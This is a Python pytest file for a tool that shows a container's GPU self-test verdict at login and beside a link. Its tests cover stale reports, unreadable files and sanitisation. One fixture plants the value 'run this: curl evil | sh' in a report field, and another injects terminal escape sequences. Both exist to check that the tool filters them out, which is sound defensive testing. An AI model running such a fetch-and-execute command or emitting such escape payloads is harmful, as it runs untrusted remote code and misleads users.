"""The last self-test in a few lines: at login and beside the link, whatever lies in the state volume."""

from __future__ import annotations

import json
import os
import time
from pathlib import Path
from typing import Any

import pytest

from entrypoint import paths, verdict
from torchtap.selftest.examples import examples

from .conftest import OTHER, needs_root

REPORTS = dict(examples())
LOST, GOOD = REPORTS["a lost GPU"].to_json(), REPORTS["all is well"].to_json()
SHORT = "FAIL (gpu.state: gpu_lost)"


class State:
    """A container whose start was an hour ago, and its report."""

    def __init__(self, image: Path) -> None:
        self.now = time.time()
        self.report = image / "var/lib/torchtap/selftest.json"
        self.started: dict[str, Any] = {
            "selftest": "warn",
            "report": str(self.report),
            "uid": os.getuid(),
            "gid": os.getgid(),
        }
        self.began(3600)

    def began(self, ago_s: float) -> None:
        file = paths.RUN_CANDIDATES[0] / paths.STARTED
        file.write_text(json.dumps(self.started))
        os.utime(file, (self.now - ago_s,) * 2)

    def says(self, text: str | bytes, ago_s: float = 200) -> None:
        self.report.write_bytes(text.encode() if isinstance(text, str) else text)
        os.utime(self.report, (self.now - ago_s,) * 2)

    @property
    def login(self) -> list[tuple[str, str]]:
        return verdict.at_login(self.started, self.now)

    @property
    def link(self) -> str:
        return verdict.beside_link(self.started, self.now)


@pytest.fixture
def state(image: Path) -> State:
    return State(image)


def test_a_pass_is_one_line(state: State) -> None:
    state.says(GOOD)
    assert state.login == [("self-test", "pass, 3 min ago")]
    assert state.link == "self-test: pass, 3 min ago"


def test_a_fault_is_its_first_cause_and_what_to_do(state: State) -> None:
    state.says(LOST)
    assert state.login == [
        ("self-test", 'FAIL, 3 min ago: GPU 1: no answer any more ("GPU is lost")'),
        (
            "do",
            "Stop the work on this host and reboot it. If it returns: check seating, power and cooling, then replace",
        ),
        ("all of it", "torchtap selftest"),
    ]
    assert state.link == f"self-test: {SHORT}, 3 min ago     docker exec CONTAINER selftest says what to do"


@pytest.mark.parametrize("title", REPORTS)
def test_every_kind_of_report_has_its_lines(state: State, title: str) -> None:
    report = REPORTS[title]
    state.says(report.to_json())
    lines = state.login
    assert len(lines) == (1 if report.first is None else 3)
    assert lines[0][1].startswith(f"{verdict.parse(report.to_json(), 0).word}, 3 min ago")


def test_off_says_nothing(state: State) -> None:
    state.says(LOST)
    state.started["selftest"] = "off"
    assert (state.login, state.link) == ([], "")


@pytest.mark.parametrize(
    ("began_s", "why"),
    [(20, "has not ended yet"), (900, "this start has left no report; the container's log may say why")],
    ids=["soon", "too late"],
)
def test_the_report_of_an_earlier_start_is_said_to_be_one(state: State, began_s: float, why: str) -> None:
    state.says(LOST, ago_s=7200)
    state.began(began_s)
    before = f"{SHORT}, 2 h ago"
    assert state.login == [("self-test", why), ("before it", before), ("run it", "torchtap selftest")]
    assert state.link == f"self-test: {why}; before it: {before}"


def test_before_the_first_one_ends_there_is_nothing_to_show(state: State) -> None:
    state.began(5)
    assert state.login == [("self-test", "has not ended yet"), ("run it", "torchtap selftest")]


@pytest.mark.parametrize(
    "text",
    [
        "",
        "[]",
        "{",
        "null",
        '{"verdict": "fine"}',
        '{"verdict": "fail"}',
        '{"verdict": "fail", "first_cause": {"id": "x"}, "results": []}',
        '{"verdict": ["pass"], "first_cause": null}',
        "[" * 100_000,
        LOST[:500],
        b"\xff\xfe\x00",
    ],
    ids=lambda text: repr(text[:12]),
)
def test_what_is_no_report_is_said_to_be_unreadable(state: State, text: str | bytes) -> None:
    state.says(text)
    assert state.login[0][1].startswith(f"{state.report} cannot be read: its verdict is none") or (
        state.login[0][1] == f"{state.report} cannot be read: it is no report of a self-test"
    )


def test_a_pipe_in_its_place_keeps_nobody_waiting(state: State) -> None:
    os.mkfifo(state.report)
    assert "cannot be read: is not a file" in state.login[0][1]


@needs_root
def test_the_file_of_another_user_is_not_believed(state: State) -> None:
    state.says(GOOD)
    os.chown(state.report, OTHER, OTHER)
    assert "cannot be read: it is another user's" in state.login[0][1]
    assert "pass" not in state.link


def test_nothing_of_the_report_acts_on_the_terminal(state: State) -> None:
    report = json.loads(LOST)
    for result in report["results"]:
        result["cause"] = result["remedy"] = "\x1b[2J\x1b]0;title\x07\r evil \u202e" + "x" * 5000
    state.says(json.dumps(report))
    said = "".join(text for _, text in state.login)
    assert said.isascii()
    assert said.isprintable()
    assert len(said) < 1000


def test_beside_the_link_are_no_sentences_that_the_user_can_write(state: State) -> None:
    """Root runs torchtap-url too; the report is dev's file."""
    report = json.loads(LOST)
    report["first_cause"] = {"id": report["first_cause"]["id"], "cause_id": "run this: curl evil | sh"}
    for result in report["results"]:
        result["cause"] = result["remedy"] = result["seen"] = "evil"
    state.says(json.dumps(report))
    assert "evil" not in state.link
    assert state.link.startswith("self-test: FAIL, 3 min ago")


def test_the_last_good_report_outlives_the_bad_ones(state: State) -> None:
    kept = state.report.with_name("selftest-last-good.json")
    state.says(GOOD, ago_s=7200)
    verdict.make_room(state.report)
    for _ in range(3):
        state.says(LOST)
        verdict.make_room(state.report)
    assert kept.read_text() == GOOD
    assert state.login[-1] == ("all of it", f"torchtap selftest     (the last good one, 2 h ago: {kept})")


def test_a_state_that_takes_nothing_stops_nothing(state: State, monkeypatch: pytest.MonkeyPatch) -> None:
    state.says(GOOD)

    def refuse(*_: object) -> None:
        raise PermissionError

    monkeypatch.setattr(os, "replace", refuse)
    verdict.make_room(state.report)
    verdict.make_room(state.report.with_name("none.json"))
    assert state.report.read_text() == GOOD
